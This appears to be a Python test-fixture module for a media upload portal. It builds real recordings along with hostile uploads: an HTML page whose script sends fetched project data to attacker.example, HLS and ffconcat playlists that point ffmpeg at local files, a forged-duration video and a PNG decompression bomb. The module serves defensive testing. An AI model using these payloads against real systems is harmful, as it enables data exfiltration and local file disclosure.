"""Real media and hostile files for upload tests, each made once per test run.

Uploads of ``individual``/``live`` must probe as media, so tests send real
recordings (``recordings.samples`` makes them with ffmpeg) and, to attack the
door, files an attacker would send instead."""

from __future__ import annotations

import atexit
import shutil
import struct
import tempfile
import zlib
from functools import cache
from pathlib import Path

from recordings import ffmpeg
from recordings.samples import generate_participant_media

SMALL_LIMITS = ffmpeg.Limits(timeout=120, output_bytes=64 * 1024 * 1024)


@cache
def _folder() -> Path:
    folder = Path(tempfile.mkdtemp(prefix="portal-test-media-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder


@cache
def recording_path(seconds: float = 1.0, index: int = 0) -> Path:
    """A real H.264/AAC participant recording, 160x90."""
    path = _folder() / f"participant-{index}-{seconds:g}s.mp4"
    generate_participant_media(
        path, name=f"P{index}", seconds=seconds, index=index, width=160, height=90,
        preset="ultrafast",
    )  # fmt: skip
    return path


def recording(seconds: float = 1.0, index: int = 0) -> bytes:
    return recording_path(seconds, index).read_bytes()


def wav_header(data_size: int, *, rate: int = 96000, channels: int = 8, bits: int = 32) -> bytes:
    """A PCM WAV header; any bytes after it are valid (noisy) audio. 8 channels
    of 32-bit 96 kHz make 3 MB a second, so large test uploads stay short."""
    block = channels * bits // 8
    return (
        b"RIFF" + struct.pack("<I", 36 + data_size) + b"WAVEfmt "
        + struct.pack("<IHHIIHH", 16, 1, channels, rate, rate * block, block, bits)
        + b"data" + struct.pack("<I", data_size)
    )  # fmt: skip


@cache
def _mkv(width: int, height: int) -> bytes:
    path = _folder() / f"frame-{width}x{height}.mkv"
    ffmpeg.run(
        [*ffmpeg.base_command(), *ffmpeg.lavfi_args(f"color=c=gray:s={width}x{height}:d=0.2"),
         "-c:v", "libx264", "-preset", "ultrafast", "-f", "matroska", ffmpeg.path_arg(path)],
        "Making a test video", SMALL_LIMITS,
    )  # fmt: skip
    return path.read_bytes()


def oversized_video(width: int = 4160, height: int = 64) -> bytes:
    """A real Matroska video whose frame is wider than 4096 pixels."""
    return _mkv(width, height)


def claiming_duration(seconds: float) -> bytes:
    """A real 0.2 s Matroska video whose header claims ``seconds`` (its Segment
    Duration element rewritten, in milliseconds: the default timecode scale)."""
    data = _mkv(64, 48)
    at = data.index(b"\x44\x89")  # the Duration element's id
    size = data[at + 2]
    if size == 0x88:
        value = struct.pack(">d", seconds * 1000)
    else:
        assert size == 0x84, "unexpected size of the Duration element"
        value = struct.pack(">f", seconds * 1000)
    return data[: at + 3] + value + data[at + 3 + len(value) :]


HTML_PAGE = (
    b"<!doctype html><html><body><script>fetch('/projects/').then(r => r.text())"
    b".then(t => navigator.sendBeacon('https://attacker.example/', t))</script></body></html>"
)


def hls_playlist(target: str | Path) -> bytes:
    """An HLS playlist whose one segment is another file, by absolute path, and
    which claims to last 100 hours."""
    return (
        f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:360000\n"
        f"#EXTINF:360000.0,\n{Path(target).resolve()}\n#EXT-X-ENDLIST\n"
    ).encode()


def concat_list(target: str | Path) -> bytes:
    return f"ffconcat version 1.0\nfile '{Path(target).resolve()}'\n".encode()


def png(width: int, height: int) -> bytes:
    """A valid 8-bit greyscale PNG of ``width`` x ``height``, compressed row by row
    (12000x12000 is ~150 kB on disk and 144 MB once decoded)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + pixels
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )
